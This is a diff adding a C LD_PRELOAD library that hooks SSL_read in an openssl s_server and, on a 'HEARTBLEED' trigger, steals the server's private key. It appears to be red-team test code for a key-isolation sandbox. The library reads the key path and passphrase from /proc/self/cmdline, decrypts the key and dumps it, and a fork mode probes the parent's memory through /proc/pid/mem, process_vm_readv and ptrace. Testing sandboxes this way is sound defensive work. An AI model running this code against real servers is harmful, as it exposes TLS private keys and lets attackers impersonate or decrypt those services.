@@ -1,0 +1,332 @@
+/* libattack_postlockdown.so: the attacker's code after the lockdown, for an
+ * unmodified `openssl s_server` that holds its key in the cordon provider
+ * (attacker review of issue 16). LD_PRELOADed like libheartbleed.so, and
+ * answering the same trigger, so that tls_attack.cc's harness (a random key
+ * per run, the judge outside this process) can drive it: when a record
+ * starts with "HEARTBLEED" the handshake has signed, so with lockdown =
+ * first-use the process is locked down, and this code stands for arbitrary
+ * code execution in it (docs/openssl.md's threat model: "any system call
+ * the filter allows").
+ *
+ * What it does, by $ATTACK_MODE:
+ *   keyfile (default): finds the key's path as the server was told it, in
+ *     /proc/self/cmdline ("-key cordon:/path", or a cordon-key reference
+ *     file whose "path" line names it), open(2)s and read(2)s that file: no
+ *     protection key covers a file, and Landlock grants read access beneath
+ *     every other entry of "/". If the file is encrypted, the passphrase is
+ *     in the same command line ("-pass pass:..."), and this process's own
+ *     libcrypto (default provider) decrypts it, as an attacker's code would.
+ *     The dump gets the file's bytes and, when it decoded, the unencrypted
+ *     PKCS#8 PEM.
+ *   fork: fork()s; the child (which holds a copy of the domain's pages)
+ *     tries /proc/<parent>/mem, process_vm_readv and ptrace on the parent,
+ *     then its own /proc/self/mem; whatever it reads goes to the dump.
+ *
+ * The dump file is $HEARTBLEED_DUMP (no index runs); the reply, like
+ * heartbleed's, is "heartbleed: dumped N pages (B bytes), M refused", then a
+ * line per step saying what happened (for the report), sent to the client
+ * and to stderr. Whether the process was locked down is said too
+ * (cordon_is_locked_down() from the preloaded libcordon.so, and the
+ * "Seccomp:" line of /proc/self/status). */
+#define _GNU_SOURCE
+#include <dlfcn.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <openssl/bio.h>
+#include <openssl/evp.h>
+#include <openssl/pem.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+typedef struct ssl_st SSL;
+typedef int (*ssl_read_fn)(SSL*, void*, int);
+typedef int (*ssl_write_fn)(SSL*, const void*, int);
+
+static ssl_read_fn real_ssl_read;
+static ssl_write_fn real_ssl_write;
+static const char kTrigger[] = "HEARTBLEED";
+
+__attribute__((constructor)) static void Resolve(void) {
+  real_ssl_read = (ssl_read_fn)dlsym(RTLD_NEXT, "SSL_read");
+  real_ssl_write = (ssl_write_fn)dlsym(RTLD_NEXT, "SSL_write");
+}
+
+struct Report {
+  char text[8192];
+  size_t len;
+};
+
+static void Say(struct Report* r, const char* fmt, ...) __attribute__((format(printf, 2, 3)));
+static void Say(struct Report* r, const char* fmt, ...) {
+  va_list ap;
+  va_start(ap, fmt);
+  int n = vsnprintf(r->text + r->len, sizeof r->text - r->len, fmt, ap);
+  va_end(ap);
+  if (n > 0) r->len += (size_t)n < sizeof r->text - r->len ? (size_t)n : sizeof r->text - r->len - 1;
+}
+
+/* Reads a whole file with plain open/read; NULL (errno kept) on failure. */
+static char* Slurp(const char* path, size_t* len) {
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return NULL;
+  size_t cap = 1 << 16, n = 0;
+  char* buf = malloc(cap + 1);
+  for (;;) {
+    if (n == cap) buf = realloc(buf, (cap *= 2) + 1);
+    ssize_t r = read(fd, buf + n, cap - n);
+    if (r < 0 && errno == EINTR) continue;
+    if (r < 0) {
+      int e = errno;
+      close(fd);
+      free(buf);
+      errno = e;
+      return NULL;
+    }
+    if (r == 0) break;
+    n += (size_t)r;
+  }
+  close(fd);
+  buf[n] = '\0';
+  *len = n;
+  return buf;
+}
+
+static void Append(int dump, const void* p, size_t n, unsigned long long* bytes) {
+  const char* c = p;
+  while (n > 0) {
+    ssize_t w = write(dump, c, n);
+    if (w < 0 && errno == EINTR) continue;
+    if (w <= 0) return;
+    c += w;
+    n -= (size_t)w;
+    *bytes += (unsigned long long)w;
+  }
+}
+
+static void SayLockdown(struct Report* r) {
+  int (*locked)(void) = (int (*)(void))dlsym(RTLD_DEFAULT, "cordon_is_locked_down");
+  size_t n = 0;
+  char* status = Slurp("/proc/self/status", &n);
+  const char* sec = status != NULL ? strstr(status, "Seccomp:") : NULL;
+  int mode = -1;
+  if (sec != NULL) sscanf(sec, "Seccomp: %d", &mode);
+  Say(r, "attack: cordon_is_locked_down() = %d, Seccomp: %d\n", locked != NULL ? locked() : -1, mode);
+  free(status);
+}
+
+/* The argument after `opt` in /proc/self/cmdline, into out. */
+static int CmdlineArg(const char* opt, char* out, size_t out_len) {
+  size_t n = 0;
+  char* cmd = Slurp("/proc/self/cmdline", &n);
+  if (cmd == NULL) return 0;
+  int found = 0;
+  for (size_t i = 0; i < n; i += strlen(cmd + i) + 1) {
+    if (strcmp(cmd + i, opt) == 0 && i + strlen(cmd + i) + 1 < n) {
+      snprintf(out, out_len, "%s", cmd + i + strlen(cmd + i) + 1);
+      found = 1;
+      break;
+    }
+  }
+  free(cmd);
+  return found;
+}
+
+/* The key file's path: from "cordon:/path", or from the "path" line of a
+ * reference file (PEM of base64 text; libcrypto's PEM reader decodes it). */
+static int KeyPath(struct Report* r, char* path, size_t path_len) {
+  char arg[4096];
+  if (!CmdlineArg("-key", arg, sizeof arg)) {
+    Say(r, "attack: no -key in /proc/self/cmdline\n");
+    return 0;
+  }
+  if (strncmp(arg, "cordon:", 7) == 0) {
+    const char* p = arg + 7;
+    while (p[0] == '/' && p[1] == '/') ++p; /* cordon:///abs */
+    snprintf(path, path_len, "%s", p);
+    Say(r, "attack: -key %s names %s\n", arg, path);
+    return 1;
+  }
+  BIO* bio = BIO_new_file(arg, "r");
+  char *name = NULL, *header = NULL;
+  unsigned char* data = NULL;
+  long len = 0;
+  int ok = bio != NULL && PEM_read_bio(bio, &name, &header, &data, &len) == 1;
+  BIO_free(bio);
+  if (ok) {
+    char* text = malloc((size_t)len + 1);
+    memcpy(text, data, (size_t)len);
+    text[len] = '\0';
+    const char* line = strstr(text, "\npath ");
+    ok = line != NULL;
+    if (ok) {
+      line += 6;
+      size_t l = strcspn(line, "\n");
+      snprintf(path, path_len, "%.*s", (int)l, line);
+      Say(r, "attack: -key %s is a %s naming %s\n", arg, name, path);
+    }
+    free(text);
+  }
+  OPENSSL_free(name);
+  OPENSSL_free(header);
+  OPENSSL_free(data);
+  if (!ok) Say(r, "attack: cannot find the key's path in -key %s\n", arg);
+  return ok;
+}
+
+static void StealKeyFile(int dump, struct Report* r, unsigned long long* bytes) {
+  char path[4096];
+  if (!KeyPath(r, path, sizeof path)) return;
+  size_t n = 0;
+  char* file = Slurp(path, &n);
+  if (file == NULL) {
+    Say(r, "attack: open/read %s failed: %s\n", path, strerror(errno));
+    return;
+  }
+  Say(r, "attack: read %zu bytes of %s with open(2)+read(2)\n", n, path);
+  Append(dump, file, n, bytes);
+  /* Encrypted: the passphrase is the server's own (-pass pass:...). */
+  char pass[1024] = "";
+  if (CmdlineArg("-pass", pass, sizeof pass) && strncmp(pass, "pass:", 5) == 0) {
+    BIO* bio = BIO_new_mem_buf(file, (int)n);
+    EVP_PKEY* k = PEM_read_bio_PrivateKey_ex(bio, NULL, NULL, pass + 5, NULL, "provider=default");
+    BIO_free(bio);
+    if (k == NULL) {
+      Say(r, "attack: the passphrase from -pass did not decrypt it\n");
+    } else {
+      BIO* out = BIO_new(BIO_s_mem());
+      PEM_write_bio_PKCS8PrivateKey(out, k, NULL, NULL, 0, NULL, NULL);
+      char* pem = NULL;
+      long m = BIO_get_mem_data(out, &pem);
+      Append(dump, pem, (size_t)m, bytes);
+      Say(r, "attack: decrypted it with the passphrase from -pass: %ld bytes of PKCS#8 PEM\n", m);
+      BIO_free(out);
+      EVP_PKEY_free(k);
+    }
+  }
+  free(file);
+}
+
+/* The child's probes; it writes what it reads to the dump (shared fd). */
+static void ForkProbes(int dump, struct Report* r, unsigned long long* bytes) {
+  const pid_t parent = getpid();
+  /* The domain's pages, from the parent's maps: the largest mapping
+   * whose pages this thread cannot read (write(2) from it fails with EFAULT). */
+  int pipefd[2];
+  if (pipe(pipefd) != 0) {
+    Say(r, "attack: pipe: %s\n", strerror(errno));
+    return;
+  }
+  const pid_t child = fork();
+  if (child < 0) {
+    Say(r, "attack: fork() failed: %s\n", strerror(errno));
+    return;
+  }
+  if (child == 0) {
+    close(pipefd[0]);
+    char line[512];
+    size_t n = 0;
+    char* maps = Slurp("/proc/self/maps", &n);
+    unsigned long long got = 0;
+    int devnull = open("/dev/null", O_WRONLY);
+    char mem_path[64];
+    snprintf(mem_path, sizeof mem_path, "/proc/%d/mem", (int)parent);
+    int pmem = open(mem_path, O_RDONLY);
+    int l = snprintf(line, sizeof line, "attack: child: open %s: %s\n", mem_path,
+                     pmem >= 0 ? "opened" : strerror(errno));
+    (void)!write(pipefd[1], line, (size_t)l);
+    int smem = open("/proc/self/mem", O_RDONLY);
+    l = snprintf(line, sizeof line, "attack: child: open /proc/self/mem: %s\n",
+                 smem >= 0 ? "opened" : strerror(errno));
+    (void)!write(pipefd[1], line, (size_t)l);
+    long pt = ptrace(PTRACE_ATTACH, parent, 0, 0);
+    l = snprintf(line, sizeof line, "attack: child: ptrace(PTRACE_ATTACH, parent): %s\n",
+                 pt == 0 ? "attached" : strerror(errno));
+    (void)!write(pipefd[1], line, (size_t)l);
+    int vm_ok = 0, vm_err = 0;
+    for (char* s = maps; s != NULL && *s != '\0';) {
+      unsigned long a, b;
+      char perms[8];
+      char* next = strchr(s, '\n');
+      if (next != NULL) *next++ = '\0';
+      if (sscanf(s, "%lx-%lx %7s", &a, &b, perms) == 3 && perms[0] == 'r') {
+        for (unsigned long p = a; p < b; p += 4096) {
+          if (write(devnull, (void*)p, 4096) == 4096) continue; /* readable anyway */
+          char buf[4096];
+          struct iovec li = {buf, sizeof buf}, ri = {(void*)p, sizeof buf};
+          if (process_vm_readv(parent, &li, 1, &ri, 1, 0) == (ssize_t)sizeof buf) {
+            vm_ok++;
+            Append(dump, buf, sizeof buf, &got);
+          } else {
+            vm_err = errno;
+          }
+          if (pmem >= 0 && pread(pmem, buf, sizeof buf, (off_t)p) == (ssize_t)sizeof buf)
+            Append(dump, buf, sizeof buf, &got);
+          if (smem >= 0 && pread(smem, buf, sizeof buf, (off_t)p) == (ssize_t)sizeof buf)
+            Append(dump, buf, sizeof buf, &got);
+        }
+      }
+      s = next;
+    }
+    l = snprintf(line, sizeof line,
+                 "attack: child: process_vm_readv of the parent's unreadable pages: %d read, last error %s; "
+                 "%llu bytes to the dump\n",
+                 vm_ok, vm_ok > 0 ? "-" : strerror(vm_err), got);
+    (void)!write(pipefd[1], line, (size_t)l);
+    _exit(0);
+  }
+  close(pipefd[1]);
+  char buf[2048];
+  ssize_t k;
+  while ((k = read(pipefd[0], buf, sizeof buf - 1)) > 0) {
+    buf[k] = '\0';
+    Say(r, "%s", buf);
+  }
+  close(pipefd[0]);
+  int st = 0;
+  waitpid(child, &st, 0);
+  Say(r, "attack: child wait status 0x%x\n", st);
+  off_t end = lseek(dump, 0, SEEK_END);
+  if (end > 0) *bytes = (unsigned long long)end;
+}
+
+static void Attack(char* out, size_t out_len) {
+  struct Report r = {.len = 0};
+  r.text[0] = '\0';
+  const char* dump_path = getenv("HEARTBLEED_DUMP");
+  const char* mode = getenv("ATTACK_MODE");
+  if (mode == NULL || mode[0] == '\0') mode = "keyfile";
+  unsigned long long bytes = 0;
+  int dump = dump_path != NULL ? open(dump_path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600) : -1;
+  if (dump >= 0) {
+    SayLockdown(&r);
+    if (strcmp(mode, "fork") == 0) {
+      ForkProbes(dump, &r, &bytes);
+    } else {
+      StealKeyFile(dump, &r, &bytes);
+    }
+    close(dump);
+  }
+  /* The harness reads the totals from this line; "pages" count nothing here. */
+  snprintf(out, out_len, "heartbleed: dumped 0 pages (%llu bytes), 0 refused\n%s", bytes, r.text);
+}
+
+int SSL_read(SSL* ssl, void* buf, int num) {
+  if (real_ssl_read == NULL) return -1;
+  const int n = real_ssl_read(ssl, buf, num);
+  if (n >= (int)(sizeof kTrigger - 1) && memcmp(buf, kTrigger, sizeof kTrigger - 1) == 0) {
+    static char summary[9000];
+    Attack(summary, sizeof summary);
+    fputs(summary, stderr);
+    fflush(stderr);
+    real_ssl_write(ssl, summary, (int)strlen(summary));
+  }
+  return n;
+}
